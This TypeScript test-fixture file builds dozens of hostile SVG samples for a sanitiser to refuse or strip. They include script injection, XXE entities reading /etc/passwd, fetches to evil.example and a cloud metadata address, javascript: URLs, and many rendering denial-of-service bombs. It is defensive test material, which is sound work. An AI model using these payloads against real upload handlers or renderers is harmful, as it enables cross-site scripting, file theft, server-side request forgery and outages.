import { svg, text } from "./bytes";
import type { Hostile } from "./hostile-pictures";

const CIRCLE = '<circle cx="50" cy="50" r="40" fill="#c33"/>';
const doubled = (link: (name: string) => string) =>
  `<g id="a">${CIRCLE}</g>${[..."bcdefghijklmnopqrstuvwxyz"]
    .map((name, at) => `<g id="${name}">${link("abcdefghijklmnopqrstuvwxyz"[at] ?? "").repeat(10)}</g>`)
    .join("")}<use href="#z"/>`;
const layers = (count: number, attribute: string, before = "") =>
  svg(`${before}${`<g ${attribute}><rect width="100" height="100" fill="#123"/></g>`.repeat(count)}`);
const filter = (effects: string, attributes = "") =>
  svg(`<filter id="f" ${attributes}>${effects}</filter><g filter="url(#f)">${CIRCLE}</g>`);

/** What would run, fetch, leak or never end. */
export function hostileSvgs(): Hostile[] {
  const refused: [string, Uint8Array<ArrayBuffer>][] = [
    ["runs a script", svg(`<script>alert(1)</script>${CIRCLE}`)],
    ["runs a script from elsewhere", svg(`<script href="https://evil.example/x.js"/>${CIRCLE}`)],
    [
      "runs a script under another prefix",
      text(`<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>1</s:script></s:svg>`),
    ],
    ["runs a script in CDATA", svg(`<script><![CDATA[alert(1)]]></script>${CIRCLE}`)],
    [
      "holds a web page",
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
      ),
    ],
    [
      "holds a web page in a frame",
      svg(
        `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>`,
      ),
    ],
    [
      "expands entities a billion times",
      text(
        `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>`,
      ),
    ],
    [
      "reads a file by an entity",
      text(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
    ],
    [
      "fetches by an entity",
      text(
        `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>`,
      ),
    ],
    [
      "hides its entities behind a comment",
      text(`<!--x--><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`),
    ],
    ["uses an entity that it does not declare", svg(`<g id="&nbsp;">${CIRCLE}</g>`)],
    ["declares its type in the middle", svg(`<!DOCTYPE svg>${CIRCLE}`)],
    ["fetches a picture", svg('<image href="https://evil.example/pixel.png" width="9" height="9"/>')],
    [
      "fetches a picture by XLink",
      svg('<image xlink:href="http://169.254.169.254/latest/meta-data" width="9" height="9"/>'),
    ],
    ["fetches a picture without a scheme", svg('<image href="//evil.example/x.png" width="9" height="9"/>')],
    ["reads a file as a picture", svg('<image href="file:///etc/passwd" width="9" height="9"/>')],
    ["uses another drawing", svg('<use href="https://evil.example/x.svg#a"/>')],
    [
      "paints with another drawing",
      svg('<rect width="9" height="9" fill="url(https://evil.example/x.svg#g)"/>'),
    ],
    [
      "paints with another drawing in quotes",
      svg(`<rect width="9" height="9" fill="url('https://evil.example/x.svg#g')"/>`),
    ],
    [
      "is masked by another drawing",
      svg('<rect width="9" height="9" style="mask:url(//evil.example/m.svg#m)"/>'),
    ],
    ["imports a style sheet", svg(`<style>@import url("https://evil.example/x.css");</style>${CIRCLE}`)],
    [
      "is styled by a sheet from elsewhere",
      text(
        `<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>`,
      ),
    ],
    [
      "fetches by its style",
      svg(`<style>.a{fill:url(https://evil.example/x.svg#g)}</style><rect class="a" width="9" height="9"/>`),
    ],
    [
      "hides an address behind escapes",
      svg('<rect width="9" height="9" style="fill:\\75rl(https://evil.example)"/>'),
    ],
    ["computes in its style", svg('<rect width="9" height="9" style="fill:expression(alert(1))"/>')],
    ["paints with a script", svg('<rect width="9" height="9" fill="javascript:alert(1)"/>')],
    [
      "draws a picture of a drawing",
      svg(
        `<image width="9" height="9" href="data:image/svg+xml;base64,${btoa("<svg onload='alert(1)'/>")}"/>`,
      ),
    ],
    ["draws a picture of a web page", svg('<image width="9" height="9" href="data:text/html,<script>"/>')],
    [
      "draws a picture that is none",
      svg(`<image width="9" height="9" href="data:image/png;base64,${btoa("nothing of the kind")}"/>`),
    ],
    [
      "draws a picture that is no base64",
      svg('<image width="9" height="9" href="data:image/png;base64,%%%%"/>'),
    ],
    ["doubles itself 25 times", svg(doubled((name) => `<use href="#${name}"/>`))],
    ["doubles itself by XLink", svg(doubled((name) => `<use xlink:href="#${name}"/>`))],
    ["uses itself", svg(`<g id="a">${CIRCLE}<use href="#a"/></g>`)],
    ["uses itself by way of another", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
    [
      "is masked by itself",
      svg(`<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><g mask="url(#m)">${CIRCLE}</g>`),
    ],
    [
      "is clipped by itself",
      svg(
        `<clipPath id="c"><rect width="9" height="9" clip-path="url(#c)"/></clipPath><g clip-path="url(#c)">${CIRCLE}</g>`,
      ),
    ],
    [
      "paints with a pattern of itself",
      svg(
        '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="99" height="99" fill="url(#p)"/>',
      ),
    ],
    [
      "inherits a gradient from itself",
      svg('<linearGradient id="g" href="#g"/><rect width="99" height="99" fill="url(#g)"/>'),
    ],
    [
      "inherits gradients in a ring",
      svg(
        '<linearGradient id="g" href="#h"/><linearGradient id="h" href="#g"/><rect width="99" height="99" fill="url(#g)"/>',
      ),
    ],
    ["has 30,000 elements", svg(CIRCLE.repeat(30_000))],
    ["is nested 5,000 deep", svg("<g>".repeat(5_000) + CIRCLE + "</g>".repeat(5_000))],
    [
      "is nested 60 deep and used so 60 times",
      svg(
        `${"<g>".repeat(55)}<g id="a">${CIRCLE}</g>${"</g>".repeat(55)}${Array.from({ length: 60 }, (_, at) => `<g id="u${at}"><use href="#${at ? `u${at - 1}` : "a"}"/></g>`).join("")}`,
      ),
    ],
    [
      "marks each of a million corners",
      svg(
        `<marker id="m"><g>${CIRCLE.repeat(50)}</g></marker><path marker-mid="url(#m)" d="M0 0${"l1 1".repeat(20_000)}"/>`,
      ),
    ],
    ["makes turbulence", filter('<feTurbulence baseFrequency="0.9" numOctaves="10"/>')],
    [
      "makes turbulence under another prefix",
      text(
        `<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><x:filter id="f"><x:feTurbulence/></x:filter></x:svg>`,
      ),
    ],
    ["convolves by 99 × 99", filter(`<feConvolveMatrix order="99" kernelMatrix="${"1 ".repeat(9801)}"/>`)],
    ["dilates by a thousand", filter('<feMorphology operator="dilate" radius="1000"/>')],
    [
      "lights its surface",
      filter('<feDiffuseLighting><fePointLight x="1" y="1" z="1"/></feDiffuseLighting>'),
    ],
    ["displaces itself", filter('<feDisplacementMap in2="SourceGraphic" scale="900"/>')],
    ["tiles itself", filter("<feTile/>")],
    ["fetches into an effect", filter('<feImage href="https://evil.example/x.png"/>')],
    [
      "blurs a region of 400 canvases",
      filter('<feGaussianBlur stdDeviation="900"/>', 'x="-10" y="-10" width="20" height="20"'),
    ],
    [
      "blurs a region of a thousand canvases",
      filter(
        '<feGaussianBlur stdDeviation="5"/>',
        'filterUnits="userSpaceOnUse" x="-9999" y="-9999" width="19999" height="19999"',
      ),
    ],
    [
      "blurs two hundred times",
      svg(
        `<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>${`<g filter="url(#f)">${CIRCLE}</g>`.repeat(200)}`,
      ),
    ],
    ["chains a hundred effects", filter('<feGaussianBlur stdDeviation="3"/>'.repeat(100))],
    ["lays a thousand half-transparent canvases", layers(1000, 'opacity=".9"')],
    ["blends a thousand canvases", layers(1000, 'style="mix-blend-mode:multiply"')],
    [
      "masks a hundred canvases",
      layers(100, 'mask="url(#m)"', '<mask id="m"><rect width="100" height="100" fill="#fff"/></mask>'),
    ],
    [
      "clips a hundred canvases",
      layers(100, 'clip-path="url(#c)"', '<clipPath id="c"><circle cx="50" cy="50" r="60"/></clipPath>'),
    ],
    [
      "paints its canvas fifteen thousand times",
      svg('<rect width="100" height="100" fill="#123"/>'.repeat(15_000)),
    ],
    [
      "paints with a thousand gradients",
      svg(
        `<linearGradient id="g"><stop stop-color="red"/></linearGradient>${'<rect width="100" height="100" fill="url(#g)"/>'.repeat(1000)}`,
      ),
    ],
    [
      "zigzags over its whole height",
      svg(
        `<path fill="#c33" d="M0 0${Array.from({ length: 60_000 }, (_, at) => `L${at % 100} ${at % 2 ? 0 : 100}`).join("")}z"/>`,
      ),
    ],
    ["is a path of five megabytes", svg(`<path fill="#c33" d="M0 0${"l1 1".repeat(1_200_000)}z"/>`)],
    ["is dashed a billion times", svg('<path stroke="#000" stroke-dasharray="0.0000001" d="M0 0L100 100"/>')],
    [
      "is dashed a billion times far away",
      svg('<path stroke="#000" stroke-dasharray="1" d="M0 0L999999999 999999999"/>'),
    ],
    ["lies at infinity", svg('<rect x="1e308" width="1e308" height="9"/>')],
    [
      "has two thousand styles and as many classes",
      svg(
        `<style>${Array.from({ length: 2500 }, (_, at) => `.a${at} .b .c{fill:red}`).join("")}</style>${CIRCLE.repeat(2000)}`,
      ),
    ],
    ["has letters", svg("<text>Buy my font</text>")],
    ["moves by its style", svg('<rect width="9" height="9" style="transform:rotate(45deg)"/>')],
    ["has no size", svg(CIRCLE, "")],
    ["has a size of nothing", svg(CIRCLE, 'viewBox="0 0 0 0"')],
    ["has a size beyond numbers", svg(CIRCLE, 'viewBox="0 0 1e300 1e300"')],
    ["is a thread", svg(CIRCLE, 'viewBox="0 0 10000 1"')],
    ["shows nothing", svg("")],
    ["shows nothing but what it defines", svg(`<defs>${CIRCLE}</defs>`)],
    ["is not closed", text('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g>')],
    ["is closed twice", text('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"></svg></svg>')],
    ["crosses its tags", svg("<g><a></g></a>")],
    ["repeats an attribute", svg('<rect width="1" width="2"/>')],
    ["has an attribute without quotes", svg("<rect width=1/>")],
    ["is no UTF-8", Uint8Array.from([...text("<svg>"), 0xff, 0xc0, 0x80])],
    [
      "is a web page that calls itself a drawing",
      text('<svg:html xmlns:svg="http://www.w3.org/1999/xhtml"><script>1</script></svg:html>'),
    ],
    [
      "has a hundred thousand attributes",
      svg(`<g ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(" ")}/>`),
    ],
    ["is one endless tag", text(`<svg ${"x".repeat(1_000_000)}`)],
    ["is one endless comment", text(`<svg xmlns="http://www.w3.org/2000/svg"><!--${"-".repeat(2_000_000)}`)],
    ["opens a million brackets", text(`<svg xmlns="http://www.w3.org/2000/svg">${"<".repeat(1_000_000)}`)],
  ];
  const harmless: [string, Uint8Array<ArrayBuffer>, string[]][] = [
    ["listens to a click", svg(`<g onclick="alert(1)">${CIRCLE}</g>`), ["onclick", "alert"]],
    ["listens to its loading", svg(CIRCLE, 'viewBox="0 0 100 100" onload="alert(1)"'), ["onload", "alert"]],
    ["links to a script", svg(`<a href="javascript:alert(1)">${CIRCLE}</a>`), ["javascript", "<a"]],
    ["links to a thief", svg(`<a xlink:href="https://evil.example">${CIRCLE}</a>`), ["evil"]],
    [
      "animates a link",
      svg(`${CIRCLE}<animate attributeName="href" values="javascript:alert(1)"/>`),
      ["animate", "javascript"],
    ],
    ["sets a handler", svg(`${CIRCLE}<set attributeName="onmouseover" to="alert(1)"/>`), ["alert"]],
    [
      "holds a web page beside its drawing",
      svg(
        `<switch><foreignObject requiredExtensions="x"><p xmlns="http://www.w3.org/1999/xhtml">evil</p></foreignObject><g>${CIRCLE}</g></switch>`,
      ),
      ["evil", "foreign"],
    ],
    [
      "loads a font",
      svg(`<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>${CIRCLE}`),
      ["evil"],
    ],
    [
      "has elements of a web page",
      svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>${CIRCLE}`),
      ["evil"],
    ],
    ["tells where it was made", svg(`<metadata>C:\\Users\\Ann\\secret.svg</metadata>${CIRCLE}`), ["Ann"]],
    ["has comments and instructions", svg(`<!-- secret --><?php system("x") ?>${CIRCLE}`), ["secret", "php"]],
    [
      "names things like a page's own",
      svg(`<g id="__proto__"><g id="constructor">${CIRCLE}</g></g>`),
      ["__proto__", "constructor"],
    ],
    ["breaks out of its attributes", svg(`<g id="&quot;&gt;&lt;script&gt;">${CIRCLE}</g>`), ["script"]],
    ["masks with something that is not there", svg(`<g mask="url(#nothing)">${CIRCLE}</g>`), ["nothing"]],
  ];
  return [
    ...refused.map(([name, bytes]) => ({ name, bytes })),
    ...harmless.map(([name, bytes, without]) => ({ name, bytes, taken: { without } })),
  ];
}
